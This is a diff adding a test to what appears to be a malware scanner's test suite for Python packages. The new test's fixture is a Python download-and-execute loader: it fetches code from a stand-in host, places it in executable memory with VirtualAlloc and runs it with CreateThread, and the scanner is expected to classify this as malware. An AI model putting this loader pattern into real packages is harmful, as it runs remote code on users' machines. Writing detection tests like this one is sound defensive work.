@@ -43,3 +43,19 @@ test('wrappers of the system’s functions bring no machine code of their own', 
 
   expect(await inspect('shellcode', file)).toMatchObject([{ score: 4, class: 'suspicious' }]);
 });
+
+test('machine code that a function fetches is malware', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import ctypes, urllib.request',
+      'def go():',
+      "    code = urllib.request.urlopen('https://get.tools.invalid/code').read()",
+      '    k = ctypes.windll.kernel32',
+      '    at = k.VirtualAlloc(0, len(code), 0x3000, 0x40)',
+      '    k.RtlMoveMemory(at, code, len(code))',
+      '    k.CreateThread(0, 0, at, 0, 0, 0)',
+    ),
+  });
+
+  expect(await inspect('shellcode', file)).toMatchObject([{ class: 'malware', score: 10, context: 'call' }]);
+});
